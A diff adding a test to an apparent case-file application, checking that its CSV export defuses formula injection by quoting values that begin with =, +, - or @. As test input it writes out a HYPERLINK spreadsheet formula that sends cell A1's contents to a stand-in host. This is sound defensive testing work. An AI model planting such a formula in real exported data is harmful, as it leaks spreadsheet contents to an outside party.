@@ -126,6 +126,24 @@ class TestListe:
         assert lignes[1][5] == "Commandement de payer"
         assert lignes[1][10].replace("\u202f", " ") == "1 234,50 €"
 
+    def test_export_csv_neutralise_les_formules(self, monde, agent):
+        """A value typed by a partner never runs as a formula in the secretariat's spreadsheet
+        (OWASP CSV injection): text starting with = + - @ tab or CR gets a leading quote."""
+        menage = menage_avec_procedure(
+            monde.departement,
+            nom='=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")',
+            adresse="+33 rue du Calcul",
+            dettes=[(IL_Y_A(10), Decimal("1234.5"))],
+        )
+        menage.membres.update(prenom="@SOMME(1+1)")
+        reponse = agent.get(reverse("dossiers:export_csv"))
+        texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
+        (_entetes, ligne) = list(csv.reader(io.StringIO(texte), delimiter=";"))
+        assert ligne[1] == '\'=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")'
+        assert ligne[2] == "'@SOMME(1+1)"
+        assert ligne[3] == "'+33 rue du Calcul"
+        assert ligne[10].replace("\u202f", " ") == "1 234,50 €"  # untouched
+
     def test_autre_departement_invisible(self, monde):
         menage_avec_procedure(monde.departement)
         page = client_de(monde.secretariat_autre_departement).get(reverse("dossiers:liste"))
